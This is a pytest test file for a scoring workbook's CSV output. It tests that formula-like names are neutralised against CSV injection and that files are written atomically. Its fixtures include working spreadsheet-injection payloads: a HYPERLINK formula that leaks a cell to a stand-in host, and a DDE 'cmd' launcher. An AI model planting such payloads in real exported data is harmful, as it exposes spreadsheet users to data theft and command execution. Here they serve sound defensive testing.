"""Result CSVs: text that a spreadsheet would run as a formula is neutralised in every CSV the workbook
writes (OWASP CSV injection), numbers stay numbers, and `validate` warns about such names."""

from __future__ import annotations

import ast
import csv
import errno
import io
import os
import signal
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from conftest import small_season_tables, write_season
from paritrana_nb import outputs
from paritrana_nb.cli import main
from paritrana_nb.methodology import Methodology
from paritrana_nb.outputs import csv_safe, csv_unsafe, starts_like_formula, table_csv_text, write_atomic, write_new
from paritrana_nb.season import Season, load_season

HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"Klik")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
JUROR = "=J1+1"
ROOT = Path(__file__).resolve().parents[2]


def _planted(data_dir: Path) -> Path:
    """The small season with a regency, a village, a business and a juror named like formulas."""
    tables = small_season_tables()
    wilayah = tables["wilayah"]
    wilayah.loc[wilayah["kode_wilayah"] == "61.71", "nama"] = HYPERLINK
    tables["desa"].loc[1, "nama"] = DDE
    tables["badan_usaha"].loc[0, "nama"] = AT
    tables["wawancara"]["juri"] = tables["wawancara"]["juri"].replace("J1", JUROR)
    return write_season(data_dir, tables)


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def assert_no_formula(path: Path, planted: tuple[str, ...]) -> None:
    """No cell of `path` would run as a formula; each planted text is there, neutralised."""
    cells = _cells(path)
    assert not [c for c in cells if starts_like_formula(c)], path.name
    for text in planted:
        assert "'" + text in cells, (path.name, text)
        assert text not in cells


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (AT, "'" + AT),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("-inf", "'-inf"),
        ("Kabupaten Ketapang", "Kabupaten Ketapang"),
        ("-3.5", "-3.5"),
        ("+12", "+12"),
        ("1e-5", "1e-5"),
        ("", ""),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_csv_safe_neutralises_formula_text_only(text: object, written: object) -> None:
    assert csv_safe(text) == written


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("'=1+1", "''=1+1"),  # a text that itself begins with ' and a formula character: read back as it was
        ("''=", "'''="),
        ("'@SUM(1)", "''@SUM(1)"),
        ("'+1", "'+1"),  # ' and a plain number: never taken for a formula, written as it is
        ("'", "'"),
        ("''", "''"),
        ("'s-Hertogenbosch", "'s-Hertogenbosch"),
        ("=1+1", "'=1+1"),
    ],
)
def test_a_text_beginning_with_an_apostrophe_is_written_so_that_it_reads_back(text: str, written: str) -> None:
    """`'=1+1` was written as it is and read back as `=1+1`: a text of apostrophes before what would run as a
    formula gets a `'` more, which the reader takes off; any other text beginning with `'` is written as it is."""
    assert csv_safe(text) == written
    assert csv_unsafe(written) == text


_APOSTROPHES = st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "e", "a", " "]))


@given(st.text() | _APOSTROPHES)
@example("'=")
@example("''=1")
@example("'+1")
@example("'")
@example("")
def test_what_csv_safe_writes_csv_unsafe_reads_back_for_any_text(text: str) -> None:
    """The round trip is exact for every text; a text not beginning with `'` is written as before (a `'` before a
    formula, nothing else); what is written never runs as a formula in a spreadsheet."""
    written = csv_safe(text)
    assert isinstance(written, str) and csv_unsafe(written) == text
    if not text.startswith("'"):
        assert written == ("'" + text if starts_like_formula(text) else text)
    assert not starts_like_formula(written)


def test_names_beginning_with_an_apostrophe_are_read_back_from_the_workbooks_csv(tmp_path: Path) -> None:
    """Written by the workbook's CSV writer, read by its reader: each name as it was."""
    from paritrana_nb.readers import read_table_file

    names = ["'=1+1", "''=", "'@SUM(1)", "'+1", "'", "'s-Hertogenbosch", "=1+1", "-x", "Kab. Ketapang", ""]
    path = tmp_path / "t.csv"
    path.write_bytes(outputs.table_csv_bytes(pd.DataFrame({"nama": names, "n": range(len(names))})))
    for arrow in (False, True):
        assert read_table_file(path, arrow=arrow).cells["nama"].tolist() == names


def test_numbers_stay_numbers_in_the_csv() -> None:
    table = pd.DataFrame({"nama": [HYPERLINK, "-3.5"], "nilai": [-3.5, 2.0], "jumlah": [-4, 5]})
    text = table_csv_text(table)
    assert text.splitlines()[1:] == ['"\'=HYPERLINK(""http://x/?d=""&A2,""Klik"")",-3.5,-4', "-3.5,2.0,5"]


def test_a_column_name_that_runs_as_a_formula_is_neutralised_and_read_back(tmp_path: Path) -> None:
    """An extra column a submitter named like a formula (kept in the merged tables) is written as a cell would be,
    and read back under its own name."""
    from paritrana_nb.readers import read_table_file

    table = pd.DataFrame({"nama": ["A"], DDE: ["x"], "<b>x</b>": ["-1+1"]})
    path = tmp_path / "t.csv"
    path.write_text(table_csv_text(table), encoding="utf-8")
    assert path.read_text(encoding="utf-8").splitlines()[0] == "nama,'+cmd|' /C calc'!A0,<b>x</b>"
    assert list(read_table_file(path).cells.columns) == ["nama", DDE, "<b>x</b>"]


def test_a_carriage_return_in_a_cell_or_a_name_is_quoted_so_the_row_stays_whole(tmp_path: Path) -> None:
    """csv.writer with Unix line ends quotes a line feed but not a carriage return: `a\rb` was written bare, and
    Excel, pandas and the workbook's own reader split the row there."""
    table = pd.DataFrame({"nama": ["a\rb", "c"], "x\ry": [1, 2]})
    text = table_csv_text(table)
    assert text == 'nama,"x\ry"\n"a\rb",1\nc,2\n'
    path = tmp_path / "t.csv"
    path.write_bytes(text.encode("utf-8"))
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back.columns.tolist() == ["nama", "x\ry"] and back["nama"].tolist() == ["a\rb", "c"]


def test_one_number_policy_by_column_type() -> None:
    table = pd.DataFrame(
        {
            "jumlah": [30, -4, 0],
            "nilai": [30.0, 68.02, float("nan")],
            "kecil": [1e-7, 1e16, -0.0],
            "boleh_kosong": pd.array([7, None, 0], dtype="Int64"),
            "pecahan": pd.array([2.0, None, 0.5], dtype="Float64"),
            "finalis": [True, False, True],
        }
    )
    assert table_csv_text(table, ("finalis",)).splitlines() == [
        "jumlah,nilai,kecil,boleh_kosong,pecahan,finalis",
        "30,30.0,1e-07,7,2.0,true",
        "-4,68.02,1e+16,,,false",
        "0,,-0.0,0,0.5,true",
    ]


def _expected_cell(value: object, floats: bool) -> str:
    """The number policy, told independently: floats as repr (whole ones with `.0`), integers as integers."""
    if pd.isna(value):
        return ""
    return repr(float(value)) if floats else str(int(value))


# gaps searches every lever of every participant, twice here (command and expected table): seconds of work
@pytest.mark.parametrize("command", ["score", pytest.param("gaps", marks=pytest.mark.slow), "jury", "awards"])
def test_every_csv_command_writes_numbers_by_the_one_policy(command: str, small_season: Path, tmp_path: Path) -> None:
    from paritrana_nb.awards import csv_table
    from paritrana_nb.engine import score_season
    from paritrana_nb.gaps import what_it_takes
    from paritrana_nb.methodology import load_methodology
    from paritrana_nb.reliability import jury_reliability
    from paritrana_nb.season import read_season

    out = tmp_path / f"{command}.csv"
    assert main([command, "--data-dir", str(small_season), "--out", str(out)]) == 0
    season = read_season(2025, small_season)
    methodology = load_methodology(ROOT / "params" / "2025" / "metodologi.yaml")
    scores = score_season(season, methodology)
    table = {
        "score": scores.wide,
        "gaps": lambda: what_it_takes(season, methodology),
        "jury": lambda: jury_reliability(season, methodology, scores),
        "awards": lambda: csv_table(scores.penghargaan, methodology),
    }[command]()
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    numeric = [c for c in table.columns if pd.api.types.is_numeric_dtype(table[c]) and table[c].dtype != bool]
    assert len(rows) == len(table) > 0 and numeric
    for name in numeric:
        floats = pd.api.types.is_float_dtype(table[name])
        assert [row[name] for row in rows] == [_expected_cell(v, floats) for v in table[name]], name


@pytest.mark.parametrize(
    ("command", "planted"),
    [
        ("score", (HYPERLINK, DDE, AT)),
        pytest.param("gaps", (HYPERLINK, DDE, AT), marks=pytest.mark.slow),  # the same writer as score, seconds slower
        ("jury", (JUROR,)),
    ],
)
def test_every_csv_command_neutralises_formulas(command: str, planted: tuple[str, ...], tmp_path: Path) -> None:
    _planted(tmp_path / "data")
    out = tmp_path / f"{command}.csv"
    assert main([command, "--data-dir", str(tmp_path / "data"), "--out", str(out)]) == 0
    assert_no_formula(out, planted)


def test_validate_warns_about_formula_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _planted(tmp_path)
    report = load_season(2025, tmp_path).report
    assert report.ok
    found = {(p.file, p.row, p.column, p.value) for p in report.warnings if p.code == "W_FORMULA_TEXT"}
    assert {
        ("wilayah.csv", 5, "nama", HYPERLINK),
        ("desa.csv", 3, "nama", DDE),
        ("badan_usaha.csv", 2, "nama", AT),
        ("wawancara.csv", 2, "juri", JUROR),
    } <= found
    assert main(["validate", "--data-dir", str(tmp_path), "--lang", "en"]) == 0
    assert "Excel would run it as a formula" in capsys.readouterr().out


def test_only_outputs_renames_files_into_place() -> None:
    """One atomic writer: every module writes results through outputs.write_atomic, none renames files itself."""
    package = ROOT / "paritrana_nb"
    renames = sorted(
        f"{path.relative_to(package)}:{node.lineno}"
        for path in package.rglob("*.py")
        if path.name != "outputs.py"
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute)
        and node.attr in ("replace", "rename")
        and isinstance(node.value, ast.Name)
        and node.value.id == "os"
    )
    assert renames == []


_KILLED_WHILE_WRITING = """
import os, signal, sys
from pathlib import Path
from paritrana_nb import outputs

def fdopen(*args, **kwargs):
    os.kill(os.getpid(), signal.SIGKILL)  # killed while the temporary file is written: no cleanup runs

outputs.os.fdopen = fdopen
outputs.write_atomic(Path(sys.argv[1]), b"new")
"""


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL (POSIX)")
def test_the_temporary_file_of_a_killed_write_is_deleted_by_the_next_write_to_its_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "skor.csv"
    target.write_bytes(b"old")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    killed = subprocess.run([sys.executable, "-c", _KILLED_WHILE_WRITING, str(target)], env=env, check=False)
    assert killed.returncode == -signal.SIGKILL
    [left] = [p.name for p in tmp_path.iterdir() if p.name != "skor.csv"]
    assert left.startswith(".skor.csv.") and left.endswith(".tmp")
    assert target.read_bytes() == b"old"  # the previous result is whole
    (tmp_path / ".catatan.tmp").write_text("x")  # a hidden file of someone else's: not the workbook's to delete
    monkeypatch.setattr(outputs, "_SWEPT", set())  # as in the next command's process
    write_atomic(tmp_path / "gaps.csv", b"other")  # any result written to that folder
    assert sorted(p.name for p in tmp_path.iterdir()) == [".catatan.tmp", "gaps.csv", "skor.csv"]


@pytest.mark.skipif(sys.platform == "win32", reason="needs file locks (POSIX)")
def test_the_temporary_file_of_a_write_at_work_in_another_process_is_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import fcntl

    at_work = tmp_path / f".skor.csv.abcd_123{outputs.TEMPORARY_SUFFIX}"
    at_work.write_bytes(b"half")
    with at_work.open("rb") as writer:  # its writer holds the lock while it writes (another open file: another lock)
        fcntl.flock(writer, fcntl.LOCK_EX)
        monkeypatch.setattr(outputs, "_SWEPT", set())
        write_atomic(tmp_path / "skor.csv", b"new")
        assert at_work.read_bytes() == b"half"
    monkeypatch.setattr(outputs, "_SWEPT", set())
    write_atomic(tmp_path / "skor.csv", b"newer")  # its writer is gone (killed): deleted
    assert sorted(p.name for p in tmp_path.iterdir()) == ["skor.csv"]


@pytest.mark.parametrize("links", [True, False])
def test_write_new_never_replaces_what_has_the_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, links: bool
) -> None:
    """Written whole under a free name; FileExistsError naming the file (and nothing changed, no temporary file
    left) where a file, a dangling link or a folder has the name, also on a file system without hard links."""
    if not links:

        def no_links(*args: object, **kwargs: object) -> None:
            raise PermissionError(errno.EPERM, os.strerror(errno.EPERM))  # what FAT answers

        monkeypatch.setattr(outputs.os, "link", no_links)
    write_new(tmp_path / "usulan.yaml", "baru\n")
    assert (tmp_path / "usulan.yaml").read_text(encoding="utf-8") == "baru\n"
    (tmp_path / "tautan.yaml").symlink_to(tmp_path / "tidak_ada.yaml")
    (tmp_path / "folder.yaml").mkdir()
    for name in ("usulan.yaml", "tautan.yaml", "folder.yaml"):
        with pytest.raises(FileExistsError) as taken:
            write_new(tmp_path / name, "lain\n")
        assert taken.value.filename == str(tmp_path / name)
    assert (tmp_path / "usulan.yaml").read_text(encoding="utf-8") == "baru\n"
    assert not (tmp_path / "tidak_ada.yaml").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder.yaml", "tautan.yaml", "usulan.yaml"]


def test_append_file_keeps_what_is_there_and_never_writes_through_a_link(tmp_path: Path) -> None:
    """A log's earlier entries are kept; a link at its name (to a file or dangling) or a folder is refused, naming
    it, and what it points to is left as it was."""
    log = tmp_path / "paritrana-run.log"
    outputs.append_file(log, "pertama\n")
    outputs.append_file(log, "kedua\n")
    assert log.read_text(encoding="utf-8") == "pertama\nkedua\n"
    (tmp_path / "lain.txt").write_text("lain\n", encoding="utf-8")
    (tmp_path / "ke_berkas.log").symlink_to(tmp_path / "lain.txt")
    (tmp_path / "ke_kosong.log").symlink_to(tmp_path / "tidak_ada.log")
    (tmp_path / "folder.log").mkdir()
    for name in ("ke_berkas.log", "ke_kosong.log", "folder.log"):
        with pytest.raises(OSError) as refused:
            outputs.append_file(tmp_path / name, "baru\n")
        assert refused.value.filename == str(tmp_path / name)
    assert (tmp_path / "lain.txt").read_text(encoding="utf-8") == "lain\n"
    assert not (tmp_path / "tidak_ada.log").exists()


def _csv_writer_reference(table: pd.DataFrame, boolean_columns: tuple[str, ...] = ()) -> str:
    """The writer table_csv_text replaced (csv.writer over Python rows, a carriage return quoted, Unix line ends): the
    fast one must give the same bytes."""
    columns: list[list[object]] = []
    for name in table.columns:
        series = table[name]
        if name in boolean_columns:
            columns.append(np.where(series.to_numpy(dtype=bool), "true", "false").tolist())
        elif pd.api.types.is_float_dtype(series.dtype):
            values = series.to_numpy(dtype=np.float64, na_value=np.nan)
            cells = values.astype(object)
            cells[np.isnan(values)] = None
            columns.append(cells.tolist())
        else:
            columns.append([csv_safe(cell) for cell in series.astype(object).where(series.notna(), None).tolist()])
    lines = []
    for row in [list(table.columns), *zip(*columns, strict=True)]:
        buffer = io.StringIO()  # "\r\n" as its line end: csv.writer then quotes a carriage return too, as it must
        csv.writer(buffer, lineterminator="\r\n").writerow(row)
        lines.append(buffer.getvalue().removesuffix("\r\n") + "\n")
    return "".join(lines)


def test_score_csv_of_the_bundled_season_is_byte_identical_to_the_csv_writer(
    bundled_season: Season, default_methodology: Methodology
) -> None:
    from paritrana_nb.engine import BOOLEAN_COLUMNS, csv_text, score_season

    scores = score_season(bundled_season, default_methodology)
    wide = scores.wide()
    wide.loc[0, "nama"] = HYPERLINK  # names a spreadsheet would run, quotes, separators and line ends
    wide.loc[1, "nama"] = DDE
    wide.loc[2, "nama"] = AT
    wide.loc[3, "nama"] = '-Desa "Baru", Hulu\nHilir\r'
    wide.loc[4, "nama"] = "-3.5"
    wide.loc[5, "skor_dokumen"] = -0.0
    assert csv_text(scores) == _csv_writer_reference(scores.wide(), BOOLEAN_COLUMNS)
    assert table_csv_text(wide, BOOLEAN_COLUMNS) == _csv_writer_reference(wide, BOOLEAN_COLUMNS)


_TEXT = st.text(alphabet=st.sampled_from(list("ab ,\"\r\n\t=+-@.e1٣é'")), max_size=6)
_FLOAT = st.floats(allow_nan=True, allow_infinity=True)


@settings(max_examples=60, deadline=None)
@given(
    rows=st.lists(
        st.tuples(
            st.none() | _TEXT,
            _FLOAT,
            st.none() | st.integers(-(10**12), 10**12),
            st.booleans(),
            st.none() | _TEXT | st.integers(-5, 5) | _FLOAT | st.booleans(),
        ),
        min_size=1,
        max_size=12,
    ),
    single=st.booleans(),
)
def test_fast_csv_writer_gives_the_csv_writer_bytes(rows: list[tuple[object, ...]], single: bool) -> None:
    texts, floats, counts, flags, mixed = zip(*rows, strict=True)
    table = pd.DataFrame(
        {
            "nama": pd.Series(texts, dtype=object),
            "nilai": pd.Series(floats, dtype=np.float64),
            "jumlah": pd.array(counts, dtype="Int64"),
            "finalis": list(flags),
            "lain": pd.Series(mixed, dtype=object),
        }
    )
    for columns in [["nama"], ["nilai"], ["jumlah"], ["lain"]] if single else [list(table.columns)]:
        part = table[columns]
        assert table_csv_text(part, ("finalis",)) == _csv_writer_reference(part, ("finalis",))


_TRICKY_FLOATS = [
    *(float(v) for v in (0.0, -0.0, 30.0, 68.02, 1e-4, 9.999e-5, 1e-7, 5e-324, 2.5e-5, 0.1 + 0.2, 1e15, 1e16)),
    *(float(v) for v in (999999999999999.9, 1234567890123456.0, 1.7976931348623157e308, 2**53, -(2**53) - 2.0)),
    float("nan"),
    float("inf"),
    float("-inf"),
]


def test_fast_writer_formats_tricky_and_random_floats_as_repr() -> None:
    """Every float as repr, wherever pyarrow's own text would differ: exponents, whole values, -0.0, extremes,
    NaN (empty) and infinities; and thousands of random bit patterns and scores."""
    rng = np.random.default_rng(15)
    bits = rng.integers(-(2**63), 2**63 - 1, size=4000, dtype=np.int64).view(np.float64)
    scores = np.concatenate([rng.uniform(0, 100, 4000), np.round(rng.uniform(0, 100, 4000), 2)])
    spread = 10.0 ** rng.uniform(-8, 18, 4000) * rng.choice([-1.0, 1.0], 4000)
    values = np.concatenate([_TRICKY_FLOATS, bits, scores, spread, np.arange(-50.0, 50.0)])
    table = pd.DataFrame({"nilai": values, "jumlah": np.arange(len(values)) - 7})
    assert table_csv_text(table) == _csv_writer_reference(table)
    assert table_csv_text(table[["nilai"]]) == _csv_writer_reference(table[["nilai"]])


def test_fast_writer_keeps_csv_writer_text_rules() -> None:
    """Names with quotes, separators, line ends, formula starts, unicode; repeated (formatted once) and distinct."""
    names = [
        'Desa "Baru"',
        "Hulu, Hilir",
        "Baris\nbaru",
        "cr\r",
        "=1+1",
        "+62",
        "-3.5",
        "-x",
        "@a",
        "\tx",
        "Désa Ñ ٣ 漢",
        "",
        None,
        "biasa",
    ]
    repeated = pd.Series(names * 100, dtype=object)
    distinct = pd.Series([f"{n}{i}" if n is not None else None for i, n in enumerate(names * 100)], dtype=object)
    table = pd.DataFrame({"kategori": repeated, "nama": distinct, "jenis": repeated.astype("str")})
    assert table_csv_text(table) == _csv_writer_reference(table)
    for name in table.columns:
        assert table_csv_text(table[[name]]) == _csv_writer_reference(table[[name]])


@pytest.mark.parametrize(("block", "threads"), [(1 << 16, 2), (7, 1), (7, 2), (7, 3)])
def test_score_csv_with_tricky_values_in_either_layout_equals_the_csv_writer(
    bundled_season: Season, default_methodology: Methodology, monkeypatch: pytest.MonkeyPatch, block: int, threads: int
) -> None:
    """The score CSV (indicator cells taken from the long table) equals csv.writer over `wide()`, with odd values
    planted, whether the indicator rows come in participant order (as score_season writes them) or shuffled, and
    whatever the blocks of participants it is formatted by (lines cut at every 7th participant here) and the
    threads making them."""
    from dataclasses import replace

    from paritrana_nb import outputs
    from paritrana_nb.engine import BOOLEAN_COLUMNS, csv_text, score_season

    monkeypatch.setattr(outputs, "_BLOCK", block)
    monkeypatch.setattr(outputs, "_BLOCK_ALONE", block)  # the blocks of one thread
    monkeypatch.setattr(outputs, "_THREADS", threads)
    monkeypatch.setattr(outputs.os, "cpu_count", lambda: 4)  # the threads are used on a one-core machine too

    scores = score_season(bundled_season, default_methodology)
    peserta, indikator = scores.peserta.copy(), scores.indikator.copy()
    peserta.loc[0, "nama"] = '=Desa "Baru", Hulu\nHilir'
    peserta.loc[1, "skor_dokumen"] = -0.0
    for row, value in enumerate(_TRICKY_FLOATS):
        indikator.loc[row, "nilai"] = value
        indikator.loc[row + 40, "n"] = value
    planted = replace(scores, peserta=peserta, indikator=indikator)
    shuffled = replace(planted, indikator=indikator.sample(frac=1, random_state=15).reset_index(drop=True))
    expected = _csv_writer_reference(planted.wide(), BOOLEAN_COLUMNS)
    assert csv_text(planted) == expected
    assert csv_text(shuffled) == expected
    # a value missing amid a participant's indicators, and a participant without any: empty cells in their place
    someone = (indikator["kategori"] == peserta.loc[10, "kategori"]) & (
        indikator["id_peserta"] == peserta.loc[10, "id_peserta"]
    )
    gapped = replace(planted, indikator=indikator[~someone].drop(index=[1, 2]).reset_index(drop=True))
    assert csv_text(gapped) == _csv_writer_reference(gapped.wide(), BOOLEAN_COLUMNS) != expected


@settings(max_examples=60, deadline=None)
@given(texts=st.lists(st.none() | st.sampled_from(["", "a", "b", "Desa, Baru", "=1"]), max_size=40), copy=st.data())
def test_factorize_objects_groups_equal_texts_whatever_object_holds_them(
    texts: list[str | None], copy: st.DataObject
) -> None:
    """Equal texts get one code whether they are one object or equal copies (made here by slicing); missing values
    (None, NaN) get a code of their own; decoding gives back every cell."""
    from paritrana_nb.outputs import factorize_objects, object_addresses

    fresh = [t if t is None or not copy.draw(st.booleans()) else (t + "\0")[:-1] for t in texts]
    fresh = [np.nan if t is None and copy.draw(st.booleans()) else t for t in fresh]
    values = np.array(fresh, dtype=object)
    codes, uniques = factorize_objects(values)
    decoded = [None if pd.isna(v) else v for v in uniques[codes]]
    assert decoded == texts
    assert len(uniques) == len({t for t in texts if t is not None}) + (None in texts)
    assert len(set(object_addresses(values).tolist())) <= len(values)


def _synced_and_renamed(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, int]]:
    """Note each fsync ("fsync", the inode of the file or folder synced) and each rename into place ("replace", the
    inode renamed), in order."""
    log: list[tuple[str, int]] = []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(handle: int) -> None:
        log.append(("fsync", os.fstat(handle).st_ino))
        real_fsync(handle)

    def replace(src: str, dst: str) -> None:
        log.append(("replace", Path(src).stat().st_ino))
        real_replace(src, dst)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    return log


@pytest.mark.skipif(sys.platform == "win32", reason="a folder is synced on POSIX only")
@pytest.mark.parametrize("data", [b"new", "baru\n"])
def test_write_atomic_syncs_the_file_before_its_rename_and_the_folder_after(
    data: bytes | str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Else a power cut after the rename may leave the new name on an empty file, or the old name."""
    target = tmp_path / "hasil" / "skor.csv"
    target.parent.mkdir()
    target.write_bytes(b"old")
    log = _synced_and_renamed(monkeypatch)
    write_atomic(target, data)
    written = target.stat().st_ino
    assert log == [("fsync", written), ("replace", written), ("fsync", target.parent.stat().st_ino)]
    assert target.read_bytes() == (data if isinstance(data, bytes) else data.encode("utf-8"))


@pytest.mark.skipif(sys.platform == "win32", reason="a folder is synced on POSIX only")
def test_write_new_syncs_the_file_before_its_name_and_the_folder_after(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    log = _synced_and_renamed(monkeypatch)
    write_new(tmp_path / "usulan.yaml", "baru\n")
    assert log == [("fsync", (tmp_path / "usulan.yaml").stat().st_ino), ("fsync", tmp_path.stat().st_ino)]


@pytest.mark.parametrize("refusal", ["open", "fsync", "not posix"])
def test_a_folder_that_cannot_be_synced_does_not_fail_the_write(
    refusal: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A folder without read permission (its open refused), a file system that cannot sync a folder, or Windows
    (where a folder cannot be opened): the file is written all the same, its data synced before the rename."""
    target = tmp_path / "skor.csv"
    target.write_bytes(b"old")
    folder = tmp_path.stat().st_ino
    log = _synced_and_renamed(monkeypatch)
    real_open, real_fsync = os.open, os.fsync

    def open_(path: str, flags: int, *args: int) -> int:
        if Path(path) == tmp_path:
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, flags, *args)

    def fsync(handle: int) -> None:
        if os.fstat(handle).st_ino == folder:
            raise OSError(22, "Invalid argument")
        real_fsync(handle)

    if refusal == "open":
        monkeypatch.setattr(os, "open", open_)
    elif refusal == "fsync":
        monkeypatch.setattr(os, "fsync", fsync)
    else:
        monkeypatch.setattr(outputs, "_FOLDER_SYNC", False)
    write_atomic(target, b"new")
    assert target.read_bytes() == b"new" and [p.name for p in tmp_path.iterdir()] == ["skor.csv"]
    assert log[:2] == [("fsync", target.stat().st_ino), ("replace", target.stat().st_ino)]


def test_a_file_that_cannot_be_synced_is_an_error_naming_it_and_keeps_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "skor.csv"
    target.write_bytes(b"old")

    def fsync(handle: int) -> None:
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(os, "fsync", fsync)
    with pytest.raises(OSError, match="Input/output error") as raised:
        write_atomic(target, b"new")
    assert raised.value.filename == str(target)
    assert target.read_bytes() == b"old" and [p.name for p in tmp_path.iterdir()] == ["skor.csv"]


def test_a_write_that_need_not_be_durable_is_not_synced(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The participant cards (thousands, rewritten by a rerun) are renamed into place without an fsync."""
    log = _synced_and_renamed(monkeypatch)
    write_atomic(tmp_path / "kartu.html", "<p>baru</p>", durable=False)
    assert [kind for kind, _ in log] == ["replace"] and (tmp_path / "kartu.html").read_text() == "<p>baru</p>"


_ODD_FLOATS = [0.0, -0.0, 30.0, 68.02, 1e-07, 1e-4, 9.999e-5, 1e15, 1e16, -1e16, 123456789012345.6, 2.5e-300, np.nan]


@pytest.mark.parametrize("repeats", [1, 500], ids=["distinct", "repeated"])
def test_float_cells_are_what_csv_writer_writes_whether_values_repeat_or_not(repeats: int) -> None:
    """Mostly distinct values (scores) are formatted where they stand, repeated ones once each: the same text."""
    rng = np.random.default_rng(7)
    values = np.concatenate([np.repeat(rng.random(4) * 100, repeats), rng.random(3000 // repeats) * 10, _ODD_FLOATS])
    assert outputs._mostly_distinct_floats(values) == (repeats == 1)
    assert outputs.float_cells(values).to_pylist() == ["" if v != v else repr(float(v)) for v in values]


def test_a_file_given_in_chunks_is_written_whole(tmp_path: Path) -> None:
    """The score CSV as two processes made it: its parts written in turn, atomically like any other file."""
    target = tmp_path / "skor.csv"
    target.write_bytes(b"old")
    write_atomic(target, (b"head\n", bytearray(b"a,1\n"), memoryview(b"b,2\n"), b""))
    assert target.read_bytes() == b"head\na,1\nb,2\n"
    assert [p.name for p in tmp_path.iterdir()] == ["skor.csv"]  # no temporary file left


def _disk_full(path: Path, *_args: object, **_kwargs: object) -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))


def test_a_write_that_fails_leaves_no_folder_it_made(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A full disk: `score --out hasil/2025/skor.csv` left hasil/2025/ behind, empty."""
    monkeypatch.setattr(outputs, "_flushed", _disk_full)
    (tmp_path / "hasil").mkdir()
    (tmp_path / "hasil" / "lama.csv").write_bytes(b"old")
    with pytest.raises(OSError, match=os.strerror(errno.ENOSPC)):
        write_atomic(tmp_path / "hasil" / "2025" / "baru" / "skor.csv", b"new")
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) == ["hasil", "hasil/lama.csv"]


def test_a_set_that_fails_at_its_first_file_leaves_no_folder_it_made(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A full disk: `rapor --out laporan` made laporan/2025/<group>/<category>/ before its first card failed, and left
    them all, empty; `template --out` its folder. The folders that were there stay, with their files."""
    (tmp_path / "laporan" / "2025" / "61").mkdir(parents=True)
    (tmp_path / "laporan" / "2025" / "61" / "index.html").write_bytes(b"old")
    monkeypatch.setattr(outputs, "_flushed", _disk_full)
    for out in (tmp_path / "laporan" / "2025", tmp_path / "baru" / "2025"):
        with pytest.raises(OSError), outputs.FileSet(out) as files:
            files.subfolder("61")
            files.subfolder("61/desa")
            files.subfolder("Kalimantan/pemprov")
            outputs.stage_file(files.subfolder("61/desa") / "61.01.html", "<p>kartu</p>")
    found = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*"))
    assert found == ["laporan", "laporan/2025", "laporan/2025/61", "laporan/2025/61/index.html"]


def test_a_set_waiting_for_a_folder_that_a_failed_set_removed_makes_it_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two commands writing one new folder: the first fails and removes the folder it made while the second waits for
    its lock; the second locks the folder made again, not the one removed (where no file could be written)."""
    folder = tmp_path / "laporan" / "2025"
    real = outputs._locked_folder
    removed: list[Path] = []

    def locked_after_removal(place: Path) -> int | None:
        handle = real(place)
        if not removed:  # the failed set's removal, while this one waited for the lock
            place.rmdir()
            removed.append(place)
        return handle

    monkeypatch.setattr(outputs, "_locked_folder", locked_after_removal)
    with outputs.FileSet(folder) as files:
        files.add("index.html", "<p>indeks</p>")
    assert removed == [folder] and (folder / "index.html").read_text(encoding="utf-8") == "<p>indeks</p>"
